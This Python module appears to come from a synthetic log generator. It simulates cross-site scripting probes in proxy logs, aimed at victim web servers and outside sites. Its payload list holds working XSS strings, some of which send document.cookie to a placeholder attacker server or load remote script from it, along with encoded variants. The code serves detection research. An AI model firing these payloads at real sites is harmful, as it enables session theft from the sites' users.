"""Scripts in the parameters of requests: somebody tries which pages give them back."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from urllib.parse import quote

import numpy as np

from spot_gen.attacks.model import Scenario, Scene
from spot_gen.attacks.shared import story
from spot_gen.attacks.shared.agents import AGENTS, agent
from spot_gen.attacks.shared.choices import at_most, one_of
from spot_gen.attacks.shared.sites import Site
from spot_gen.attacks.shared.visits import fetch, ordinary
from spot_gen.clock import HOUR_US, MINUTE_US, SECOND_US
from spot_gen.network.hosts import Host
from spot_gen.streams import Stream

#: Payloads; {} is the server that shall be told.
_SCRIPTS = (
    "<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>",
    "'><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
    "<script src=http://{}/x.js></script>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "\"><svg onload=fetch('http://{}/?c='+document.cookie)>", "<body onload=alert('xss')>",
    "<script>document.location='http://{}/?c='+document.cookie</script>",
    "<img src=\"http://{}/p.gif\" onload=\"eval(name)\">", "<ScRiPt>confirm(1)</sCrIpT>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
)  # fmt: skip
_PATHS = ("/search.php", "/index.php", "/comment", "/product/view.aspx", "/guestbook.php", "/login")
_NAMES = ("q", "search", "id", "name", "msg", "return", "page", "lang")

#: How payloads are written into a query.
ENCODINGS: Mapping[str, Callable[[str], str]] = {
    "plain": lambda text: quote(text, safe="<>()/=:;'"),
    "percent": lambda text: quote(text, safe=""),
    "double": lambda text: quote(quote(text, safe=""), safe=""),
}
_STATUS = np.array([200] * 12 + [403] * 4 + [404] * 3 + [500])


def probe(
    scene: Scene,
    start_us: int,
    end_us: int,
    servers: list[Site],
    count: int,
    encoding: str,
    agent_kind: str = "own",
    part: int = 600,
) -> int:
    """Let the actor try ``count`` payloads on servers in [start, end); return how many got through.

    A payload calls a malicious server, whose name becomes an indicator.
    """
    stream = scene.below(part)
    told = scene.domain(part + 1)
    scene.know("domain", told)
    # One server after the other, as tools do.
    share = np.sort(stream.integers(0, len(servers), count))
    share[: len(servers)] = np.arange(len(servers))[:count]
    share = np.sort(share)
    times = np.sort(start_us + stream.integers(0, end_us - start_us - 20 * SECOND_US, count))
    own = agent(scene, stream, agent_kind)
    passed = 0
    with scene.record.stage("access"):
        for number, server in enumerate(servers):
            rows = np.flatnonzero(share == number)
            if len(rows):
                passed += _try(
                    scene, stream.below(number), times[rows], server, told, encoding, own
                )
    return passed


def _try(
    scene: Scene,
    stream: Stream,
    times: np.ndarray,
    server: Site,
    told: str,
    encoding: str,
    own: str,
) -> int:
    size = len(times)
    scripts = [script.format(told) for script in stream.choices(_SCRIPTS, size)]
    names = stream.choices(_NAMES, size)
    status = _STATUS[stream.integers(0, len(_STATUS), size)]
    fetch(
        scene, stream, times, server,
        {
            "path": stream.choices(_PATHS, size),
            "query": [
                f"?{name}={ENCODINGS[encoding](script)}"
                for name, script in zip(names, scripts, strict=True)
            ],
            "agent": own, "status": status, "bytes_down": stream.integers(600, 14_000, size),
            "action": np.where(status == 200, "TCP_MISS", "TCP_NC_MISS"),
        },
    )  # fmt: skip
    return int((status == 200).sum())


def _own_server(host: Host) -> Site:
    return Site(host.full_name, host.address, host.address)


def _play(scene: Scene) -> str:
    stream = scene.below(610)
    world = scene.world
    if not scene.victims:
        scene.victims.append(world.server("web"))
    open_sites = np.flatnonzero(~world.sites.secure).tolist()
    outside = [ordinary(world, row) for row in stream.subset(open_sites, scene["outside"])]
    servers = [*map(_own_server, scene.victims), *outside]
    count = at_most(scene, "count", 100_000)
    end = scene.start_us + scene.duration_us
    passed = probe(
        scene, scene.start_us, end, servers, count,
        one_of(scene, "encoding", tuple(ENCODINGS)), one_of(scene, "agent", AGENTS),
    )  # fmt: skip
    return (
        f"From {story.when(scene.start_us)} {scene.actor.name} put scripts into the parameters of"
        f" {story.many(count, 'request')} to {story.listed([s.name for s in servers])}."
        f" Of the answers, {passed:,} came as if nothing was wrong."
    )


SCENARIOS = (
    Scenario(
        "xss_probe",
        "web attack",
        ("T1189", "CWE-79"),
        ("proxy",),
        "cross-site scripting",
        (20 * MINUTE_US, 2 * HOUR_US, 6 * HOUR_US),
        _play,
        hours=((0, 24), (8, 16), (8, 11)),
        parameters={
            "count": (300, 60, 10),
            "outside": (4, 3, 2),
            "encoding": ("plain", "percent", "double"),
            "agent": ("rare", "own", "own"),
        },
    ),
)
